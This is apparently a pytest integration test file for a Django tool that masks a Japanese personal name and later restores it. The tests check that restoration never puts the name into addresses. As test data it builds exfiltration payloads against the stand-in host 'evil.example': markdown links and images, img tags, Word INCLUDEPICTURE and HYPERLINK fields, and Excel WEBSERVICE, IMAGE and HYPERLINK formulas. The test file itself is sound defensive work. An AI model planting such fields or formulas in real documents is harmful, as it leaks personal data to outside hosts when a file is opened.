"""Nothing is put back where it would leave again: in addresses, in what fetches when a file is opened."""

import io
import re
from collections.abc import Callable, Mapping

import docx
import openpyxl
import pytest
from django.test import Client
from docx.opc.constants import RELATIONSHIP_TYPE
from docx.oxml import parse_xml

from tests.adapters.maskable.making import W
from tests.adapters.readers.making import members
from tests.policies.protection.masking.test_views import (
    as_upload,
    body,
    desk,
    files,
    sent,
)

__all__ = ["desk"]
pytestmark = pytest.mark.integration
NAME = "北川久人"
OUT = "https://evil.example/"
Made = tuple[str, bytes]


@pytest.fixture
def made(desk: Client) -> Made:
    """The placeholder of the name, and the key."""
    done = files(sent(desk, "mask", text=f"{NAME}様の件です。", step="mask"))
    mark = re.search("〔氏名.+?〕", done["文章.伏せ字.txt"].decode())
    assert mark
    return mark[0], done["文章.鍵.json"]


@pytest.mark.parametrize(
    "written",
    [
        "[こちら](https://evil.example/?q=〔〕)",
        "![図](https://evil.example/〔〕.png)",
        '<img src="https://evil.example/〔〕">',
        "//evil.example/〔〕",
        "https://evil.example/?q=%20〔〕",
    ],
)
def test_no_value_comes_into_an_address_of_a_text(
    desk: Client, made: Made, written: str
) -> None:
    mark, key = made
    text = f"{mark}様 {written.replace('〔〕', mark)}"
    back = sent(desk, "restore", text=text, key=as_upload("k", key))
    (data,) = files(back).values()
    assert data.decode() == text.replace(mark, NAME, 1)
    assert "宛先などにある伏せ字1か所は、元に戻していません" in body(back)


def test_an_address_comes_back_where_nobody_worked_on_the_document(
    desk: Client,
) -> None:
    text = f"{NAME}様 https://example.jp/?q={NAME}"
    done = files(sent(desk, "mask", text=text, step="mask"))
    back = sent(
        desk,
        "restore",
        text=done["文章.伏せ字.txt"].decode(),
        key=as_upload("k", done["文章.鍵.json"]),
    )
    assert [data.decode() for data in files(back).values()] == [text]


def word_with_links(mark: str) -> bytes:
    document = docx.Document()
    paragraph = document.add_paragraph(f"{mark}様")
    for kind in (RELATIONSHIP_TYPE.HYPERLINK, RELATIONSHIP_TYPE.IMAGE):
        paragraph.part.relate_to(f"{OUT}?q={mark}", kind, is_external=True)

    for code in (
        f'INCLUDEPICTURE "{OUT}?q={mark}"',
        f'HYPERLINK "{OUT}{mark}"',
    ):
        field = f"<w:fldSimple {W} w:instr='{code}'/>"
        paragraph._p.append(parse_xml(field))

    # The address is what another field says.
    nested = [f'INCLUDEPICTURE "{OUT}', "REF name", '"', "SEQ name"]
    for code in nested:
        run = f"<w:r {W}><w:instrText>{code}</w:instrText></w:r>"
        paragraph._p.append(parse_xml(run))

    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def book_with_formulas(mark: str) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet["A1"] = mark
    sheet["A2"] = f'=HYPERLINK("{OUT}{mark}","開く")'
    sheet["A3"] = f'=_xlfn.WEBSERVICE("{OUT}"&A1)'
    sheet["A4"] = f'=_xlfn.IMAGE("{OUT}{mark}")'
    sheet["A5"] = "=_xlfn.WEBSERVICE(A1)"
    sheet["A6"] = f'=HYPERLINK("{OUT}"&A1)'
    sheet["A7"] = '=HYPERLINK("https://example.jp/","市")'
    sheet["A8"] = "=SUM(B1:B2)"
    sheet["A9"] = "見る"
    sheet["A9"].hyperlink = f"{OUT}{mark}"  # type: ignore[union-attr,assignment]
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def texts_of(data: bytes) -> Mapping[str, str]:
    return {
        name: part.decode("utf-8", "replace")
        for name, part in members(data).items()
    }


@pytest.mark.parametrize(
    ("name", "build"),
    [("m.docx", word_with_links), ("m.xlsx", book_with_formulas)],
)
def test_no_value_comes_into_an_address_of_a_file(
    desk: Client, made: Made, name: str, build: Callable[[str], bytes]
) -> None:
    mark, key = made
    back = sent(
        desk,
        "restore",
        file=as_upload(name, build(mark)),
        key=as_upload("k", key),
    )
    (data,) = files(back).values()
    written = "\n".join(texts_of(data).values())
    assert NAME in written
    assert not re.search(f"evil[^<>]{{0,20}}{NAME}", written)
    assert "元に戻していません" in body(back)
    assert "働かないようにしました" in body(back)
    calls = "INCLUDEPICTURE|WEBSERVICE|IMAGE\\(|HYPERLINK\\([^)]*&"
    assert not re.search(calls, written)


def test_other_formulas_and_links_stay(desk: Client, made: Made) -> None:
    mark, key = made
    back = sent(
        desk,
        "restore",
        file=as_upload("m.xlsx", book_with_formulas(mark)),
        key=as_upload("k", key),
    )
    (data,) = files(back).values()
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    assert sheet["A1"].value == NAME
    assert sheet["A7"].value == '=HYPERLINK("https://example.jp/","市")'
    assert sheet["A8"].value == "=SUM(B1:B2)"


def test_a_pasted_table_calls_nobody(desk: Client, made: Made) -> None:
    mark, key = made
    table = f"氏名\t式\n{mark}\t=WEBSERVICE(A2)\n"
    back = sent(desk, "restore", text=table, key=as_upload("k", key))
    (data,) = files(back).values()
    assert data.decode() == f"氏名\t式\n{NAME}\t'=WEBSERVICE(A2)\n"
